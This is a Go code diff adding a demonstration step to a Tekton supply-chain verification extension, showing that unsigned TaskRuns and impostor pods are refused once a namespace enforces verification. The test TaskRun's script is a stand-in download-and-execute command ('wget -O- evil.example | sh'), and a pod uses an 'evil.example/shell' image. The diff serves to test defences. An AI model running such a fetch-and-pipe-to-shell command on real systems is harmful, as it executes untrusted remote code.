@@ -10,6 +10,7 @@ import (
 	"io"
 	"os"
 	"path/filepath"
+	"strings"
 	"text/tabwriter"
 	"time"
 
@@ -21,6 +22,7 @@ import (
 	"k8s.io/apimachinery/pkg/types"
 	"knative.dev/pkg/apis"
 
+	"github.com/trusted-resources/chains-extension/pkg/apis/v1alpha1"
 	"github.com/trusted-resources/chains-extension/pkg/keys"
 	"github.com/trusted-resources/chains-extension/pkg/oci/registry"
 	"github.com/trusted-resources/chains-extension/pkg/resource"
@@ -102,6 +104,7 @@ func (d *demonstration) play(ctx context.Context) error {
 		{"Running the unchanged Task from the registry", d.runStored},
 		{"Running the changed Task by its name, without a resolver: Tekton does not verify it", d.runLocal},
 		{"Doing the same with config/admission, which adds a resolver to such references", d.runAdmitted},
+		{"Enforcing in the namespace: nothing starts unverified, also not what Tekton never verifies", d.runEnforced},
 	} {
 		fmt.Fprintf(d.out, "\n%s\n", step.title)
 		if err := step.do(ctx); err != nil {
@@ -256,6 +259,36 @@ func (d *demonstration) runAdmitted(ctx context.Context) error {
 		return err
 	}
 	d.verdict("The same by name, with config/admission", refused, run)
+	return nil
+}
+
+// runEnforced labels the namespace, and runs a spec that nobody has signed.
+func (d *demonstration) runEnforced(ctx context.Context) error {
+	secretsDir := filepath.Join(d.Dir, "signing-secrets")
+	var err error
+	if d.controller, err = d.AddController(ctx, "gate", secretsDir); err != nil {
+		return err
+	}
+	if _, err := d.RunKubectl(ctx, "", "label", "namespace", demoNamespace, v1alpha1.VerifyLabel+"="+v1alpha1.VerifyEnforce); err != nil {
+		return err
+	}
+	run, err := d.Run(ctx, &v1.TaskRun{
+		ObjectMeta: metav1.ObjectMeta{Namespace: demoNamespace, GenerateName: "inline-"},
+		Spec: v1.TaskRunSpec{TaskSpec: &v1.TaskSpec{Steps: []v1.Step{{
+			Name: "evil", Image: "docker.io/library/alpine:3.22", Script: "wget -O- evil.example | sh",
+		}}}},
+	}, demoWait)
+	if err != nil {
+		return err
+	}
+	d.verdict("TaskRun of a spec that nobody signed, enforced", "refused, TaskRunCancelled", run)
+	_, err = d.RunKubectl(ctx, "", "-n", demoNamespace, "run", "other-pod", "--image=evil.example/shell", "--dry-run=server")
+	observed := accepted
+	if err != nil && strings.Contains(err.Error(), "only Tekton creates") {
+		observed = "refused by the guard"
+	}
+	d.sayf("Pod with a name that Tekton uses: %v", err)
+	d.rows = append(d.rows, row{"Pod in the place of a TaskRun's Pod", "refused by the guard", observed})
 	return nil
 }
 
